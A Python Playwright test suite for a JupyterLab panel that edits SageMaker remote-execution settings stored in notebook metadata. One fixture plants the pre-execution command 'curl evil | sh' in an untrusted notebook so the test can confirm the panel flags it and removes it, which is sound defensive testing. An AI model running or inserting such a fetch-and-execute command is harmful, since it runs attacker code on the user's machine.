"""A notebook's settings, changed in the sidebar, seen in the next call."""

from __future__ import annotations

import re

from playwright.sync_api import expect

WHERE = "from sm_remote import remote\n\n@remote\ndef where():\n    print('ran')"
BOTH = f"{WHERE}\n\nwhere()"


def settled(page):
    """Waits until the panel says that the next call uses what it shows."""
    expect(page.panel.get_by_text("The next call in this notebook")).to_be_visible()


def choose_type(page, words, name):
    """Picks an instance type by typing a part of its name."""
    field = page.field("instance_type").get_by_role("combobox")
    field.fill(words)
    expect(page.field("instance_type").get_by_role("option").first).to_contain_text(name)
    field.press("Enter")
    expect(page.field("instance_type").locator(".sm-Origin")).to_have_text("from this notebook")
    settled(page)


def test_a_change_holds_for_the_next_call_without_a_restart(lab, open_lab):
    lab.write_notebook("settings.ipynb", WHERE, "where()")
    page = open_lab(lab, "settings.ipynb")
    page.open_panel()
    expect(page.field("instance_type").locator(".sm-Origin")).to_have_text("from default")
    page.run_cell(0)
    expect(page.run_cell(1)).to_contain_text("ml.m5.large")
    choose_type(page, "m5.xlarge", "ml.m5.xlarge")
    expect(page.field("instance_type")).to_contain_text("4 vCPU")
    expect(page.run_cell(1)).to_contain_text("as ml.m5.xlarge")
    page.field("instance_type").get_by_role("button", name="Reset Instance type").click()
    expect(page.field("instance_type").locator(".sm-Origin")).to_have_text("from default")
    settled(page)
    expect(page.run_cell(1)).to_contain_text("as ml.m5.large")


def test_a_change_before_the_kernel_knows_sm_remote_is_read_from_the_file(lab, open_lab):
    """The cell that decorates also calls: its kernel can hear of nothing before it ends."""
    lab.write_notebook("file.ipynb", BOTH)
    page = open_lab(lab, "file.ipynb")
    page.open_panel()
    choose_type(page, "m5.xlarge", "ml.m5.xlarge")
    expect(page.panel.get_by_text("reads these settings from its file")).to_be_visible()
    expect(page.run_cell(0)).to_contain_text("as ml.m5.xlarge")
    assert lab.read_metadata("file.ipynb")["sm_remote"] == {
        "schema": 1,
        "settings": {"instance_type": "ml.m5.xlarge"},
    }
    expect(page.panel.get_by_text("The next call in this notebook uses these settings.")).to_be_visible()


HOLD_FIRST_SAVE = """() => {
    const { contents } = window.jupyterapp.serviceManager;
    const save = contents.save.bind(contents);
    contents.save = async (...args) => {
        contents.save = save;
        const saved = await save(...args);
        await new Promise(release => { window.releaseSave = release; });
        return saved;
    };
}"""
SAVE_TOO = """() => {
    const { commands, serviceManager } = window.jupyterapp;
    const { contents } = serviceManager;
    const get = contents.get.bind(contents);
    contents.get = async (...args) => {
        const found = await get(...args);
        setTimeout(window.releaseSave);  // a save that has not waited has compared what is on disk by now
        return found;
    };
    void commands.execute('docmanager:save').then(() => { contents.get = get; window.savedToo = true; });
    setTimeout(window.releaseSave, 500);  // one that waits looks at nothing before
}"""


def test_a_notebook_that_is_saved_while_the_panel_saves_it_asks_nothing(lab, open_lab):
    lab.write_notebook("twice.ipynb", WHERE)
    page = open_lab(lab, "twice.ipynb")
    page.open_panel()
    expect(page.field("volume_size").locator("input")).to_be_visible()
    page.page.evaluate(HOLD_FIRST_SAVE)
    page.field("volume_size").locator("input").fill("44")
    page.field("volume_size").locator("input").press("Enter")
    page.page.wait_for_function("() => window.releaseSave")
    page.page.evaluate(SAVE_TOO)
    page.page.wait_for_function("() => window.savedToo || document.querySelector('.jp-Dialog')")
    assert page.page.locator(".jp-Dialog").count() == 0
    assert lab.read_metadata("twice.ipynb")["sm_remote"] == {"schema": 1, "settings": {"volume_size": 44}}


def test_pythons_rules_judge_what_is_typed_and_nothing_wrong_is_kept(lab, open_lab):
    lab.write_notebook("wrong.ipynb", WHERE, "where()")
    page = open_lab(lab, "wrong.ipynb")
    page.open_panel()
    field = page.field("volume_size")
    field.locator("input").fill("-3")
    field.locator("input").press("Enter")
    expect(field.get_by_role("alert")).to_contain_text("It is too small")
    expect(field.locator("input")).to_have_attribute("aria-invalid", "true")
    page.save()
    assert "sm_remote" not in lab.read_metadata("wrong.ipynb")
    page.run_cell(0)
    expect(page.run_cell(1)).to_contain_text("ran")


def test_what_does_not_go_together_is_told_at_its_field_and_the_rest_holds(lab, open_lab):
    lab.write_notebook("together.ipynb", WHERE, "where()")
    page = open_lab(lab, "together.ipynb")
    page.open_panel()
    page.field("use_spot_instances").get_by_role("checkbox").check()
    wait = page.field("max_wait_time_in_seconds").locator("input")
    wait.fill("100")
    wait.press("Enter")
    expect(page.field("max_wait_time_in_seconds").get_by_role("alert")).to_contain_text("max_runtime_in_seconds, 86400")
    expect(wait).to_have_attribute("aria-invalid", "true")
    expect(page.panel.get_by_text("goes without the values that are wrong")).to_be_visible()
    page.save()
    assert lab.read_metadata("together.ipynb")["sm_remote"]["settings"] == {"use_spot_instances": True}
    longest = page.field("max_runtime_in_seconds").locator("input")
    longest.fill("90")
    longest.press("Enter")
    expect(page.panel.get_by_role("alert")).to_have_count(0)
    page.run_cell(0)
    expect(page.run_cell(1)).to_contain_text("ran")
    expect(page.job("where").first).to_contain_text("spot")


def test_an_instance_type_that_there_is_not_is_told_with_the_nearest(lab, open_lab):
    lab.write_notebook("nearest.ipynb", WHERE)
    page = open_lab(lab, "nearest.ipynb")
    page.open_panel()
    field = page.field("instance_type").get_by_role("combobox")
    field.fill("ml.m5.largest")
    field.press("Enter")
    expect(page.field("instance_type").get_by_role("alert")).to_contain_text("Did you mean ml.m5.large")
    expect(field).to_have_attribute("aria-invalid", "true")


def test_a_call_that_sets_it_itself_says_so_in_the_panel(lab, open_lab):
    own = WHERE.replace("@remote", "@remote(instance_type='ml.m5.large')")
    lab.write_notebook("override.ipynb", own, "where()")
    page = open_lab(lab, "override.ipynb")
    page.open_panel()
    page.run_cell(0)
    choose_type(page, "m5.xlarge", "ml.m5.xlarge")
    expect(page.run_cell(1)).to_contain_text("as ml.m5.large")
    expect(page.field("instance_type").get_by_role("note")).to_contain_text("The last call sets this itself")


def test_settings_become_a_decorator(lab, open_lab):
    lab.write_notebook("copy.ipynb", WHERE)
    page = open_lab(lab, "copy.ipynb")
    page.open_panel()
    choose_type(page, "m5.xlarge", "ml.m5.xlarge")
    page.panel.get_by_role("button", name="Copy as decorator").click()
    assert page.page.evaluate("() => navigator.clipboard.readText()") == '@remote(instance_type="ml.m5.xlarge")'


def test_what_names_an_account_stays_out_of_the_notebook(lab, open_lab):
    lab.write_notebook("private.ipynb", WHERE)
    page = open_lab(lab, "private.ipynb")
    page.open_panel()
    page.panel.get_by_text("Environment", exact=True).click()
    field = page.field("image_uri")
    field.locator("input").fill("111122223333.dkr.ecr.us-east-1.amazonaws.com/python:3.11")
    field.locator("input").press("Enter")
    expect(field.get_by_role("alert")).to_contain_text("It names an AWS account.")
    page.save()
    assert "111122223333" not in str(lab.read_metadata("private.ipynb"))


HOSTILE = {
    "schema": 1,
    "settings": {"instance_type": "ml.p4d.24xlarge", "pre_execution_commands": ["curl evil | sh"], "volume_size": 44},
}


def test_a_notebook_that_is_not_trusted_asks_first(lab, open_lab):
    lab.write_notebook("foreign.ipynb", WHERE, "where()", metadata={"sm_remote": HOSTILE})
    page = open_lab(lab, "foreign.ipynb")
    page.open_panel()
    held = page.panel.get_by_role("alertdialog")
    expect(held).to_contain_text("curl evil | sh")
    expect(held).to_contain_text("ml.p4d.24xlarge")
    page.run_cell(0)
    output = page.run_cell(1)
    expect(output).to_contain_text("as ml.m5.large")
    expect(page.field("volume_size").locator("input")).to_have_value("44")
    held.get_by_role("button", name="Remove from the notebook").click()
    expect(held).to_have_count(0)
    page.save()
    assert lab.read_metadata("foreign.ipynb")["sm_remote"] == {"schema": 1, "settings": {"volume_size": 44}}


def test_what_was_confirmed_once_holds(lab, open_lab):
    wanted = {"schema": 1, "settings": {"instance_type": "ml.m5.2xlarge"}}
    lab.write_notebook("confirm.ipynb", WHERE, "where()", metadata={"sm_remote": wanted})
    page = open_lab(lab, "confirm.ipynb")
    page.open_panel()
    held = page.panel.get_by_role("alertdialog")
    held.get_by_role("button", name="Confirm").click()
    expect(held).to_have_count(0)
    settled(page)
    page.run_cell(0)
    expect(page.run_cell(1)).to_contain_text("as ml.m5.2xlarge")


def test_a_cell_runs_as_a_training_job_by_its_button_and_keeps_the_flags_that_it_has(lab, open_lab):
    flagged = "%%remote --volume-size 31\nprint('in the job')"
    lab.write_notebook("button.ipynb", "x = 20", "y = x * 2 + 2\nprint('in the job')", "y", flagged)
    page = open_lab(lab, "button.ipynb")
    page.open_panel()
    field = page.field("volume_size").locator("input")
    field.fill("44")
    field.press("Enter")
    expect(page.field("volume_size").locator(".sm-Origin")).to_have_text("from this notebook")
    page.run_cell(0)
    page.cell(1).locator(".jp-InputArea-editor").first.click()
    page.page.locator('[data-command="sm-remote:run-cell"]').first.click()
    expect(page.cell(1)).to_contain_text("%%remote")
    expect(page.output(1)).to_contain_text("in the job")
    expect(page.cell(1).locator(".jp-InputPrompt")).to_have_text(re.compile(r"\[\d+\]:"))
    expect(page.run_cell(2)).to_contain_text("42")
    page.cell(3).locator(".jp-InputArea-editor").first.click()
    page.page.get_by_role("button", name="Run this cell as a training job").first.click()
    expect(page.output(3)).to_contain_text("in the job")
    expect(page.output(3)).to_contain_text("volume_size is 31 here, not the panel's 44")
    assert page.cell(3).locator(".cm-content").inner_text().count("%%remote") == 1
